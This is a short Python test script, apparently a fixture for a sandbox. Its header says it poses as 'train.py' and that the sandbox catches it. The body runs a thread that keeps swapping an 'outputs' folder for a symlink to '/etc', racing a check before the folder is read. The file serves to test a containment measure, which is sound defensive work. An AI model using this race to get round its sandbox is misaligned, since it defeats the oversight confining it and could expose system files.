# wants: swap a checked folder for a link before it is read
# caught by: sandbox
# as: train.py
import os
import threading
import time

os.makedirs("outputs", exist_ok=True)


def swap():
    end = time.monotonic() + 5
    while time.monotonic() < end:
        try:
            os.rename("outputs", "kept")
            os.symlink("/etc", "outputs")
            os.unlink("outputs")
            os.rename("kept", "outputs")
        except OSError:
            pass


thread = threading.Thread(target=swap)
thread.start()
thread.join()
